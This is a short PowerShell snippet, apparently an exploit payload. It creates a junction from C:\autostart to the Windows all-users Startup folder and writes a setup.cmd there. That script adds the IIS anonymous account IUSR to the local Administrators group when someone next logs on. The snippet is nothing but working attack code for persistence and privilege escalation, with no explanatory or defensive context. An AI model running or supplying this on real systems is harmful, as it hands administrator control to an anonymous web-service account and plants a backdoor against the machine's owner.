New-Item -ItemType Junction -Path C:\autostart -Target 'C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp' | Out-Null
Set-Content C:\autostart\setup.cmd 'net localgroup Administrators IUSR /add'
